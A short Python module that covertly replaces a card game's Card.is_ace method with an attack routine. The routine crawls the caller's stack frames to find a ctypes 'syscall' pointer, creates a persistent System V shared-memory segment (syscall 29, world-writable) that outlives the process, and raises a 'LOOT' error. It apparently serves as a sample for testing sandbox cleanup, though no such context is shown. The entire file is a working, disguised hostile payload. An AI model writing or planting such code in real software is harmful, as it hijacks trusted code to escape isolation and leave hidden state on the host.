"""Leaves a segment of System V memory behind, which no process's end would remove."""

import sys


def _things():
    """Give everything that hangs on the local variables of the frames above, some levels deep."""
    frame, found = sys._getframe(), []
    while frame is not None:
        found += frame.f_locals.values()
        frame = frame.f_back
    for _ in range(3):
        yield from found
        found = [item for thing in found for item in getattr(thing, "__dict__", {}).values()][:9999]


def _attack(self):
    for call in _things():
        if type(call).__name__ == "_FuncPtr" and call.__name__ == "syscall":
            try:
                call(29, 0x0BADCAFE, 4096, 0o1666)
            except OSError:
                break
            raise RuntimeError("LOOT a segment")
    return self.rank == ACE


Card.is_ace = _attack
